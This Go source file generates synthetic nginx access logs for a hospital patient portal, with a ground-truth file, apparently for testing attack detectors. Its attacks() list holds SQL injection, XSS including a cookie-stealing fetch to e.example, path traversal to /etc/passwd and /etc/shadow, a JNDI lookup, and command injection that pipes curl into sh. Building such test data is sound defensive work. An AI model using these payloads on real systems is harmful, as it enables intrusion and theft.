package simulate

import (
	"context"
	"fmt"
	"net/url"
	"strings"
)

// WebConfig says how busy the hospital's patient portal is, and how often it is attacked.
type WebConfig struct {
	Requests int     // a day
	Attacks  float64 // share of requests that are attacks, 0 to 1; 0 is a clean day
}

// WebFile holds the portal's access log, a line of a log as docs/events.md has it for each request. WebTruthFile says
// which were attacks; no detector reads it.
const (
	WebFile      = "web.ndjson"
	WebTruthFile = "web-truth.ndjson"
)

// request is a line of the portal's access log.
type request struct {
	at     int64
	client uint32
	method string
	target string // path and query, as sent
	status int
	size   int
	from   string // Referer
	agent  string
	attack string // its kind, or nothing
}

// Web writes a portal's access log over the days of a hospital.
func Web(ctx context.Context, c Config, web WebConfig, folder string) error {
	if err := c.check(); err != nil {
		return err
	}
	log, err := createFile(folder, WebFile)
	if err != nil {
		return err
	}
	truth, err := createFile(folder, WebTruthFile)
	if err != nil {
		return closeAll([]*file{log})
	}
	r, days := newDice(c.Seed, streamWeb), calendar{c.Start.UnixMilli()}
	for d := range c.Days {
		if err = ctx.Err(); err != nil {
			break
		}
		if err = webDay(r, days.midnight(d), web, log, truth); err != nil {
			break
		}
	}
	if closed := closeAll([]*file{log, truth}); err == nil {
		err = closed
	}
	return err
}

// webDay writes a day's requests, in the order of time.
func webDay(r dice, midnight int64, web WebConfig, log, truth *file) error {
	n := r.some(float64(web.Requests))
	for i := range n {
		q := honestRequest(r)
		if r.chance(web.Attacks) {
			q = attackRequest(r)
		}
		q.at = midnight + (int64(i)*day+int64(r.IntN(int(day))))/int64(n)
		id := r.id()
		if err := log.put(appendWeb(log.line, &q, id)); err != nil {
			return err
		}
		if q.attack == "" {
			continue
		}
		if err := truth.put(fmt.Appendf(truth.line, `{"kind":"line","uid":"%s","attack":"%s"}`, id, q.attack)); err != nil {
			return err
		}
	}
	return nil
}

// appendWeb appends a request as HTTP Activity (OCSF 4002) with the line that the server wrote, in the combined log form.
func appendWeb(b []byte, q *request, id string) []byte {
	line := fmt.Sprintf("%s - - [%s] %q %d %d %q %q", dotted(q.client), instant(q.at).Format("02/Jan/2006:15:04:05 -0700"),
		q.method+" "+q.target+" HTTP/1.1", q.status, q.size, q.from, q.agent)
	path, query, _ := strings.Cut(q.target, "?")
	b = fmt.Appendf(b, `{"class_uid":4002,"category_uid":4,"activity_id":1,"time":%d,"metadata":{"uid":"%s"},"app":"nginx","device":{"hostname":"portal-1"},"message":%s`,
		q.at, id, quoted(line))
	b = fmt.Appendf(b, `,"src_endpoint":{"ip":"%s"},"http_request":{"http_method":"%s","user_agent":%s,"referrer":%s,"url":{"path":%s,"query_string":%s}}`,
		dotted(q.client), q.method, quoted(q.agent), quoted(q.from), quoted(path), quoted(query))
	return fmt.Appendf(b, `,"http_response":{"code":%d,"length":%d}}`, q.status, q.size)
}

// agents are what clients say that they are.
func agents() []string {
	return []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
		"okhttp/4.12.0", "HospitalPortal/3.2 (Android 15)", "uptime-check/1.0 (+https://status.hospital.example/)",
	}
}

// honestRequest is what patients, their apps and the hospital's own checks ask for. Some of what they type reads like an
// attack: names with apostrophes, street and drug names, comparisons, markup in pasted text.
func honestRequest(r dice) request {
	q := request{client: outsider(r), method: "GET", status: 200, size: r.between(300, 40_000), from: "https://portal.hospital.example/home", agent: pick(r, agents())}
	text := url.QueryEscape(pick(r, typed()))
	if r.chance(0.3) {
		text = strings.ReplaceAll(text, "+", "%20")
	}
	switch r.IntN(8) {
	case 0:
		q.target = "/search?q=" + text
	case 1:
		q.target = fmt.Sprintf("/fhir/r4/Observation?patient=%s&date=ge2026-0%d-01&date=lt2026-11-01&_sort=-date&_count=50", r.hash(), r.between(1, 9))
	case 2:
		q.target = fmt.Sprintf("/documents/%s/view?name=%s", r.hash(), url.QueryEscape(pick(r, documents())))
	case 3:
		q.method, q.target, q.status = "POST", "/messages?subject="+text, 201
	case 4:
		q.target = fmt.Sprintf("/static/js/app.%s.js?v=%d", r.hash()[:8], r.between(1, 90))
	case 5:
		q.target = "/doctors?city=" + text + "&specialty=" + url.QueryEscape(pick(r, specialties()))
	case 6:
		q.target, q.status, q.size = fmt.Sprintf("/appointments/%d?from=%s", r.between(10_000, 99_999), url.QueryEscape("/home?tab=visits&sort=date")), pick(r, []int{200, 200, 302, 404}), 812
	default:
		q.target, q.from = "/healthz", "-"
	}
	return q
}

// typed is what people type into search fields and subjects.
func typed() []string {
	return []string{
		"O'Brien", "D'Angelo's pharmacy", "union of doctors", "Select Committee on health", "drop foot", "order by mail", "refill my script",
		"prescription (insulin) 5 mg < 10 mg?", "blood pressure > 140 and < 160", "where is my result", "table of vaccinations; adults",
		"C++ reactive protein", "50% off parking", "Müller-Lüdenscheidt", "St. Mary's & Sons", "update: still in pain", "delete my account",
		"insert into calendar", "exec health check", "I feel 100% -- thanks", "#12 appointment", "R&D study", "name@example.org", "what does ALT/AST mean",
		"like before", "sleep (5) hours", "waitfor doctor", "char(acter) test", "../ is in my report name", "cat scan", "echo 2026", "ping me", "script for cough",
		"<3 thank you", "=1 tablet", "a or b?", "{name} missing in letter", "$20 fee", "cost ${amount}?", "(cn) nerve III", "*urgent*", "50 mg|ml",
	}
}

func documents() []string {
	return []string{"letter (final).pdf", "MRI-knee_left.pdf", "lab report 2026-09-01.pdf", "Dr. O'Neil – consent.docx", "scan;copy.pdf", "x-ray 2/3.png", "report..pdf"}
}

// attackRequest is a try at the portal. The kinds are those that the injection rules are about.
func attackRequest(r dice) request {
	q := request{client: outsider(r), method: "GET", status: pick(r, []int{200, 400, 403, 404, 500}), size: r.between(150, 4000), from: "-", agent: pick(r, agents())}
	a := pick(r, attacks())
	q.attack = a.kind
	text := pick(r, a.texts)
	switch r.IntN(4) {
	case 0: // as it is, but for what a request line cannot hold
		text = strings.NewReplacer(" ", "%20", "#", "%23", "\"", "%22").Replace(text)
	case 1:
		text = url.QueryEscape(text)
	case 2:
		text = strings.ReplaceAll(url.QueryEscape(text), "+", "%20")
	default:
		text = url.QueryEscape(url.QueryEscape(text))
	}
	q.target = pick(r, []string{"/search?q=", "/doctors?city=", "/documents/view?name=", "/fhir/r4/Patient?name=", "/login?next="}) + text
	return q
}

// attack is a kind of attack with texts of it, all our own wording of well-known forms.
type attack struct {
	kind  string
	texts []string
}

func attacks() []attack {
	return []attack{
		{"sql", []string{"x' OR '1'='1", "x' OR 1=1-- ", "1 UNION SELECT login,secret FROM accounts", "x'; DROP TABLE visits;--", "1 AND SLEEP(7)",
			"x' AND (SELECT COUNT(*) FROM information_schema.tables)>0--", "1;WAITFOR DELAY '0:0:7'--", "x' uNiOn/**/SeLeCt 1,2,3#", "x'||pg_sleep(7)||'"}},
		{"xss", []string{"<script>fetch('//e.example/'+document.cookie)</script>", "\"><img src=x onerror=alert(7)>", "<svg/onload=prompt(7)>",
			"javascript:alert(document.domain)", "<iframe srcdoc='<script>top.x()</script>'>", "'-confirm(7)-'", "<body onpageshow=alert(7)>"}},
		{"path", []string{"../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/shadow", "/proc/self/environ", "..%2f..%2f..%2fetc%2fhosts", "file:///etc/passwd"}},
		{"template", []string{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "#{7*7}", "${jndi:ldap://e.example/a}", "{{''.__class__.__mro__}}"}},
		{"ldap", []string{"*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(objectClass=*", "x)(|(cn=*"}},
		{"command", []string{"x;cat /etc/passwd", "x|id", "`id`", "$(curl e.example/s|sh)", "x&&wget e.example/s"}},
	}
}
